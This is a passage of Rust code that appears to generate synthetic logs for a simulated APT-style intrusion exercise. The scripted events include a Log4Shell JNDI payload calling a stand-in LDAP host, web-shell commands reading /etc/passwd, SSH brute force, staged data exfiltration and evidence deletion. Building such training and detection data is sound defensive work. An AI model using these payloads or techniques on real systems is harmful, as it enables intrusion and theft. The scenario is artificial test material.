    let t = utc("2025-03-14 02:10:15");
    let jcmd = |op: &mut Op, t: DateTime<Utc>, img: &str, cl: &str| {
        wl::process(
            op.s,
            &mut op.r,
            "PDO-JMP01",
            t,
            &Proc::new(img, cl, CMD, cmdp, user)
                .integrity("High")
                .cwd("C:\\PerfLogs\\"),
            tag,
        );
    };
    jcmd(
        op,
        t,
        CMD,
        "cmd /c copy \\\\PDO-FS01\\IT$\\Network\\*.vsdx C:\\PerfLogs\\c\\",
    );
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(300),
        5145,
        "adm.tkereama",
        "PDO",
        "10.20.0.50",
        "\\\\*\\IT$",
        "\\??\\D:\\Shares\\IT",
        "Network\\PDO-core-2024.vsdx",
        "0x1",
        tag,
    );
    wl::share(
        op.s,
        "PDO-FS01",
        t + ms(420),
        5145,
        "adm.tkereama",
        "PDO",
        "10.20.0.50",
        "\\\\*\\IT$",
        "\\??\\D:\\Shares\\IT",
        "Network\\PDO-DMZ-2024.vsdx",
        "0x1",
        tag,
    );
    jcmd(
        op,
        t + secs(40),
        &sys32("netsh.exe"),
        "netsh advfirewall show allprofiles",
    );
    jcmd(
        op,
        t + secs(95),
        CMD,
        "cmd /c copy \\\\PDO-FS01\\IT$\\RAG\\rag01-config-export.tar.gz C:\\PerfLogs\\c\\",
    );
    wl::share(
        op.s,
        "PDO-FS01",
        t + secs(95) + ms(300),
        5145,
        "adm.tkereama",
        "PDO",
        "10.20.0.50",
        "\\\\*\\IT$",
        "\\??\\D:\\Shares\\IT",
        "RAG\\rag01-config-export.tar.gz",
        "0x1",
        tag,
    );
    jcmd(
        op,
        t + secs(180),
        &sys32("nltest.exe"),
        "nltest /dsgetdc:lsa.example",
    );
    jcmd(
        op,
        t + secs(230),
        &sys32("net.exe"),
        "net view \\\\LSA-FS01",
    );
    wl::tgs(
        op.s,
        "PDO-DC01",
        t + secs(230) + ms(100),
        "adm.tkereama@PDO.EXAMPLE",
        "krbtgt/LSA.EXAMPLE",
        "10.20.0.50",
        "0x12",
        "0x40810000",
        tag,
    );
    wl::tgs(
        op.s,
        "LSA-DC01",
        t + secs(230) + ms(300),
        "adm.tkereama@PDO.EXAMPLE",
        "LSA-FS01$",
        "10.20.0.50",
        "0x12",
        "0x40810000",
        tag,
    );

    // S26 (part): clean-up on the jump host, Wednesday.
    let tag = st.s(26);
    let t = utc("2025-03-19 01:22:40");
    wl::rdp_auth(op.s, "PDO-JMP01", t, "adm.tkereama", "PDO", WEB_IP, tag);
    let lid = wl::logon(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + ms(800),
        &Logon {
            user: "adm.tkereama",
            domain: "PDO",
            logon_type: 10,
            ip: WEB_IP,
            workstation: "PDO-WEB01",
            package: "Kerberos",
        },
        tag,
    );
    wl::process(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + secs(40),
        &Proc::new(
            CMD,
            "cmd /c del /f /q C:\\PerfLogs\\*.rar C:\\PerfLogs\\c\\*",
            exp,
            "C:\\Windows\\Explorer.EXE",
            user,
        )
        .integrity("High")
        .cwd("C:\\PerfLogs\\"),
        tag,
    );
    for i in 1..=14 {
        wl::file_delete(
            op.s,
            &mut op.r,
            "PDO-JMP01",
            t + secs(41) + ms(i * 30),
            CMD,
            &format!("C:\\PerfLogs\\q1.part{i:02}.rar"),
            user,
            tag,
        );
    }
    wl::file_delete(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + secs(43),
        CMD,
        "C:\\PerfLogs\\rr.exe",
        user,
        tag,
    );
    wl::logoff(
        op.s,
        "PDO-JMP01",
        t + secs(300),
        "adm.tkereama",
        "PDO",
        10,
        &lid,
        tag,
    );
}

fn gateway(op: &mut Op, st: &Steps) {
    const RAG: &str = "PDO-RAG01";
    // S22: Log4Shell probe, shells, local root.
    let tag = st.s(22);
    let t = utc("2025-03-13 01:41:09");
    tomcat(
        op.s,
        RAG,
        t,
        ACTOR2,
        "",
        "GET /portal/ HTTP/1.1",
        200,
        5120,
        "",
        "${jndi:ldap://198.51.100.23:1389/a}",
        tag,
    );
    tomcat(
        op.s,
        RAG,
        t + secs(2),
        ACTOR2,
        "",
        "GET /portal/api/session HTTP/1.1",
        401,
        98,
        "",
        "${jndi:ldap://198.51.100.23:1389/a}",
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t - ms(300),
        &Conn {
            orig: ACTOR2,
            orig_p: p,
            resp: "172.16.10.30",
            resp_p: 443,
            proto: "tcp",
            service: "ssl",
            duration: 3.1,
            orig_bytes: 1_800,
            resp_bytes: 7_400,
            state: "SF",
        },
        tag,
    );
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t + ms(900),
        &Conn {
            orig: "172.16.10.30",
            orig_p: p,
            resp: ACTOR2,
            resp_p: 1389,
            proto: "tcp",
            service: "",
            duration: 0.8,
            orig_bytes: 620,
            resp_bytes: 2_900,
            state: "SF",
        },
        tag,
    );
    let audit = |op: &mut Op, t: DateTime<Utc>, msg: String| {
        syslog::line(op.s, RAG, "audit.log", t, "audit", 0, &msg, tag);
    };
    let ev = |t: DateTime<Utc>, serial: u32| {
        format!(
            "audit({}.{:03}:{serial})",
            t.timestamp(),
            t.timestamp_subsec_millis()
        )
    };
    let t1 = t + secs(95);
    audit(
        op,
        t1,
        format!(
            "type=SYSCALL msg={}: arch=c000003e syscall=257 success=yes exit=71 a0=ffffff9c items=2 ppid=1 pid=1187 auid=4294967295 uid=997 gid=997 euid=997 comm=\"java\" exe=\"/usr/lib/jvm/java-11-openjdk/bin/java\" key=\"webapp_write\"",
            ev(t1, 88_211)
        ),
    );
    audit(
        op,
        t1 + ms(1),
        format!(
            "type=PATH msg={}: item=1 name=\"/opt/rag/tomcat/webapps/portal/static/skin-dark.jsp\" inode=1311802 mode=0100640 ouid=997 ogid=997 nametype=CREATE",
            ev(t1, 88_211)
        ),
    );
    op.s.raw(
        "hosts/PDO-RAG01/webapps/portal/static/skin-dark.jsp".into(),
        RAG,
        t1,
        SKIN_DARK_JSP.as_bytes(),
        tag,
    );
    let mut tt = t1 + secs(40);
    for (i, c) in [
        "id",
        "uname -a",
        "cat /etc/passwd",
        "ls -la /opt/rag/tomcat/webapps/portal/WEB-INF/lib",
    ]
    .iter()
    .enumerate()
    {
        let q = c.replace(' ', "+").replace('/', "%2F");
        tomcat(
            op.s,
            RAG,
            tt,
            ACTOR2,
            "",
            &format!("GET /portal/static/skin-dark.jsp?cmd={q} HTTP/1.1"),
            200,
            180 + 900 * i as u64,
            "",
            UA,
            tag,
        );
        audit(
            op,
            tt + ms(30),
            format!(
                "type=EXECVE msg={}: argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=\"{c}\"",
                ev(tt, 88_300 + i as u32)
            ),
        );
        tt += secs(op.r.range(20, 70));
    }
    // The in-memory listener: POSTs to non-existent static paths answered 200.
    for (i, p) in ["anything", "favicon2.ico", "theme.css.map"]
        .iter()
        .enumerate()
    {
        tomcat(
            op.s,
            RAG,
            tt,
            ACTOR2,
            "",
            &format!("POST /portal/static/{p} HTTP/1.1"),
            200,
            64 + 300 * i as u64,
            "",
            UA,
            tag,
        );
        audit(
            op,
            tt + ms(25),
            format!(
                "type=EXECVE msg={}: argc=3 a0=\"/bin/sh\" a1=\"-c\" a2=\"id\"",
                ev(tt, 88_400 + i as u32)
            ),
        );
        tt += secs(op.r.range(30, 90));
    }
    // Local root.
    let t2 = utc("2025-03-13 02:02:33");
    tomcat(
        op.s,
        RAG,
        t2,
        ACTOR2,
        "",
        "GET /portal/static/skin-dark.jsp?cmd=cd+%2Ftmp%2F.fc+%26%26+.%2Fpk HTTP/1.1",
        200,
        96,
        "",
        UA,
        tag,
    );
    audit(
        op,
        t2 + ms(40),
        format!(
            "type=EXECVE msg={}: argc=1 a0=\"/tmp/.fc/pk\"",
            ev(t2, 88_520)
        ),
    );
    audit(
        op,
        t2 + ms(41),
        format!(
            "type=SYSCALL msg={}: arch=c000003e syscall=59 success=yes exit=0 ppid=1187 pid=30411 auid=4294967295 uid=997 gid=997 euid=997 comm=\"pk\" exe=\"/tmp/.fc/pk\" key=\"exec_tmp\"",
            ev(t2, 88_520)
        ),
    );
    audit(
        op,
        t2 + ms(900),
        format!("type=EXECVE msg={}: argc=1 a0=\"/bin/sh\"", ev(t2, 88_523)),
    );
    audit(
        op,
        t2 + ms(901),
        format!(
            "type=SYSCALL msg={}: arch=c000003e syscall=59 success=yes exit=0 ppid=30411 pid=30417 auid=4294967295 uid=0 gid=0 euid=0 comm=\"sh\" exe=\"/usr/bin/dash\" key=\"rootcmd\"",
            ev(t2, 88_523)
        ),
    );
    let t3 = t2 + secs(410);
    syslog::line(
        op.s,
        RAG,
        "audit.log",
        t3,
        "aide",
        41_220,
        "changed: /opt/rag/tomcat/webapps/portal/WEB-INF/lib/rag-auth-2.4.1.jar (sha256, mtime, size)",
        tag,
    );

    // S23: credential capture and reuse.
    let tag = st.s(23);
    let tc = t3 + secs(15);
    syslog::line(
        op.s,
        RAG,
        "audit.log",
        tc,
        "audit",
        0,
        &format!(
            "type=PATH msg={}: item=1 name=\"/opt/rag/logs/.sess_audit.log\" inode=1311877 mode=0100600 ouid=997 ogid=997 nametype=CREATE",
            ev(tc, 88_610)
        ),
        tag,
    );
    let tf = utc("2025-03-17 02:45:10");
    tomcat(
        op.s,
        RAG,
        tf,
        ACTOR2,
        "",
        "GET /portal/static/skin-dark.jsp?f=../../logs/.sess_audit.log HTTP/1.1",
        200,
        389_120,
        "",
        UA,
        tag,
    );
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        tf - ms(200),
        &Conn {
            orig: ACTOR2,
            orig_p: p,
            resp: "172.16.10.30",
            resp_p: 443,
            proto: "tcp",
            service: "ssl",
            duration: 2.4,
            orig_bytes: 1_100,
            resp_bytes: 395_000,
            state: "SF",
        },
        tag,
    );
    // Session re-use as hd.amiller (no login, no MFA), in the user's evening.
    let ts = utc("2025-03-17 08:41:52");
    for (i, (req, st_, b)) in [
        ("GET /portal/ HTTP/1.1", 200, 5120u64),
        ("GET /portal/api/session HTTP/1.1", 200, 1320),
        ("GET /portal/tunnel?connect HTTP/1.1", 101, 0),
    ]
    .iter()
    .enumerate()
    {
        tomcat(
            op.s,
            RAG,
            ts + secs(i as i64 * 3),
            ACTOR2,
            if i > 0 { "hd.amiller" } else { "" },
            req,
            *st_,
            *b,
            "https://rag.pdo.example/portal/",
            UA,
            tag,
        );
    }
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        ts - ms(300),
        &Conn {
            orig: ACTOR2,
            orig_p: p,
            resp: "172.16.10.30",
            resp_p: 443,
            proto: "tcp",
            service: "ssl",
            duration: 2_700.0,
            orig_bytes: 4_100_000,
            resp_bytes: 38_000_000,
            state: "SF",
        },
        tag,
    );

    // S24: SSH brute force to the backup repository.
    let tag = st.s(24);
    let t0 = utc("2025-03-14 02:30:01");
    let n = 400;
    let mut t = t0;
    for i in 0..n {
        let pid = 2231 + i as u32 * 3;
        let port = 51122 + i as i64 * 2;
        if i % 6 == 0 {
            syslog::line(
                op.s,
                "PDO-BKP01",
                "auth.log",
                t - ms(300),
                "sshd",
                pid,
                "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=172.16.10.30  user=root",
                tag,
            );
        }
        syslog::line(
            op.s,
            "PDO-BKP01",
            "auth.log",
            t,
            "sshd",
            pid,
            &format!("Failed password for root from 172.16.10.30 port {port} ssh2"),
            tag,
        );
        if i % 6 == 5 {
            syslog::line(
                op.s,
                "PDO-BKP01",
                "auth.log",
                t + ms(200),
                "sshd",
                pid,
                &format!(
                    "Disconnecting authenticating user root 172.16.10.30 port {port}: Too many authentication failures [preauth]"
                ),
                tag,
            );
            zeek::conn(
                op.s,
                t - secs(8),
                &Conn {
                    orig: "172.16.10.30",
                    orig_p: port as u16,
                    resp: "10.20.0.60",
                    resp_p: 22,
                    proto: "tcp",
                    service: "ssh",
                    duration: 8.2,
                    orig_bytes: 2_900,
                    resp_bytes: 3_400,
                    state: "SF",
                },
                tag,
            );
        }
        t += ms(2_700 + op.r.range(0, 500));
    }
    let ta = t0 + Duration::minutes(21) + secs(4);
    syslog::line(
        op.s,
        "PDO-BKP01",
        "auth.log",
        ta,
        "sshd",
        3611,
        "Accepted password for backupadm from 172.16.10.30 port 51980 ssh2",
        tag,
    );
    syslog::line(
        op.s,
        "PDO-BKP01",
        "auth.log",
        ta + ms(30),
        "sshd",
        3611,
        "pam_unix(sshd:session): session opened for user backupadm(uid=1002) by (uid=0)",
        tag,
    );
    syslog::line(
        op.s,
        "PDO-BKP01",
        "auth.log",
        ta + ms(60),
        "systemd-logind",
        812,
        "New session 977 of user backupadm.",
        tag,
    );
    syslog::line(
        op.s,
        "PDO-BKP01",
        "auth.log",
        ta + secs(1_310),
        "sshd",
        3611,
        "pam_unix(sshd:session): session closed for user backupadm",
        tag,
    );
    zeek::conn(
        op.s,
        ta - ms(400),
        &Conn {
            orig: "172.16.10.30",
            orig_p: 51980,
            resp: "10.20.0.60",
            resp_p: 22,
            proto: "tcp",
            service: "ssh",
            duration: 1_310.0,
            orig_bytes: 48_000,
            resp_bytes: 2_600_000,
            state: "SF",
        },
        tag,
    );
}

fn exfil(op: &mut Op, st: &Steps) {
    // S25: staging hop and the downloads.
    let tag = st.s(25);
    let t = utc("2025-03-17 00:58:10") + Duration::minutes(5);
    let c = "net use \\\\PDO-JMP01\\C$ /user:PDO\\adm.tkereama ********";
    op.system(t, c, Some((&sys32("net.exe"), c)), 120, tag);
    wl::event(
        op.s,
        "PDO-DC01",
        Channel::Security,
        t + ms(680),
        4776,
        wl::data(&[
            ("PackageName", "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"),
            ("TargetUserName", "adm.tkereama"),
            ("Workstation", "PDO-WEB01"),
            ("Status", "0x0"),
        ]),
        tag,
    );
    let lid = wl::logon(
        op.s,
        &mut op.r,
        "PDO-JMP01",
        t + ms(700),
        &Logon {
            user: "adm.tkereama",
            domain: "PDO",
            logon_type: 3,
            ip: WEB_IP,
            workstation: "PDO-WEB01",
            package: "NTLM",
        },
        tag,
    );
    wl::special_privs(
        op.s,
        "PDO-JMP01",
        t + ms(700),
        "adm.tkereama",
        "PDO",
        &lid,
        tag,
    );
    let c2 = "copy \\\\PDO-JMP01\\C$\\PerfLogs\\q1.part*.rar C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\";
    op.system(t + secs(30), c2, None, 900, tag);
    for i in 1..=14 {
        let tt = t + secs(31 + i * 18);
        wl::share(
            op.s,
            "PDO-JMP01",
            tt,
            5145,
            "adm.tkereama",
            "PDO",
            WEB_IP,
            "\\\\*\\C$",
            "\\??\\C:\\",
            &format!("PerfLogs\\q1.part{i:02}.rar"),
            "0x1",
            tag,
        );
        wl::file_create(
            op.s,
            &mut op.r,
            WEB,
            tt + secs(9),
            CMD,
            &format!("C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\q1.part{i:02}.rar"),
            SYSTEM,
            tag,
        );
    }
    let r = &mut op.r;
    let p = r.range(49152, 65000) as u16;
    zeek::conn(
        op.s,
        t + secs(30),
        &Conn {
            orig: WEB_IP,
            orig_p: p,
            resp: "10.20.0.50",
            resp_p: 445,
            proto: "tcp",
            service: "smb,ntlm",
            duration: 270.0,
            orig_bytes: 9_000_000,
            resp_bytes: 3_670_000_000,
            state: "SF",
        },
        tag,
    );
    // 14 downloads between 01:10 and 03:55, over two days.
    for i in 1..=14i64 {
        let day = if i <= 7 { "2025-03-17" } else { "2025-03-18" };
        let k = (i - 1) % 7;
        let t = utc(&format!("{day} 01:10:00")) + secs(k * 1_380 + op.r.range(0, 300));
        let bytes = if i == 14 { 168_312_054 } else { 262_144_731 };
        let taken = 180_000 + op.r.range(0, 90_000) as u64;
        iis(
            op.s,
            WEB,
            WEB_IP,
            t + ms(taken as i64),
            &Req {
                method: "GET",
                stem: &format!("/drafts/Images/thumbs/q1.part{i:02}.rar"),
                query: "",
                user: "",
                client: ACTOR2,
                ua: UA,
                referer: "",
                status: 200,
                sc_bytes: bytes,
                cs_bytes: 436,
                taken,
            },
            tag,
        );
        let r = &mut op.r;
        let p = r.range(49152, 65000) as u16;
        zeek::conn(
            op.s,
            t,
            &Conn {
                orig: ACTOR2,
                orig_p: p,
                resp: WEB_IP,
                resp_p: 443,
                proto: "tcp",
                service: "ssl",
                duration: taken as f64 / 1000.0,
                orig_bytes: 4_800,
                resp_bytes: bytes + 2_100_000,
                state: "SF",
            },
            tag,
        );
    }
    // The tunnel carries network configurations and extracts outward (~0.6 GB).
    for day in ["2025-03-17", "2025-03-18"] {
        for k in 0..6 {
            let t = utc(&format!("{day} 04:05:00"))
                + Duration::minutes(40 * k)
                + secs(op.r.range(0, 600));
            let r = &mut op.r;
            let p = r.range(49152, 65000) as u16;
            wl::net_conn(
                op.s,
                r,
                WEB,
                t,
                "C:\\Windows\\Debug\\wiadbg.exe",
                SYSTEM,
                (WEB_IP, p),
                (ACTOR, 443),
                "",
                tag,
            );
            zeek::conn(
                op.s,
                t,
                &Conn {
                    orig: WEB_IP,
                    orig_p: p,
                    resp: ACTOR,
                    resp_p: 443,
                    proto: "tcp",
                    service: "ssl",
                    duration: 1_200.0 + r.f64() * 900.0,
                    orig_bytes: 45_000_000 + r.below(10_000_000),
                    resp_bytes: 600_000 + r.below(200_000),
                    state: "SF",
                },
                tag,
            );
        }
    }

    // S26 (part): clean-up on the web server.
    let tag = st.s(26);
    let t = utc("2025-03-19 02:03:11");
    op.system(t, "del C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\*.dat C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\*.rar", None, 60, tag);
    for i in 1..=14 {
        wl::file_delete(
            op.s,
            &mut op.r,
            WEB,
            t + ms(500 + i * 25),
            CMD,
            &format!("C:\\inetpub\\wwwroot\\drafts\\Images\\thumbs\\q1.part{i:02}.rar"),
            SYSTEM,
            tag,
        );
    }
    op.system(
        t + secs(50),
        "net use \\\\PDO-JMP01\\C$ /delete /y",
        Some((&sys32("net.exe"), "net use \\\\PDO-JMP01\\C$ /delete /y")),
        60,
        tag,
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::net::ENV;

    #[test]
    fn constants_match_the_environment() {
        assert_eq!(ACTOR, ENV.actor.apt40_main);
        assert_eq!(ACTOR2, ENV.actor.apt40_week2);
        assert_eq!(RECON, ENV.actor.apt40_recon);
        assert_eq!(WEB_IP, ENV.host(WEB).ip);
        assert!(ENV.service_accounts.iter().any(|a| a == "svc_sqlrpt"));
        assert_eq!(ENV.admins.domain_admin, "adm.tkereama");
        assert_eq!(ENV.infrastructure.pdo_scanner, "10.20.5.50");
    }
}
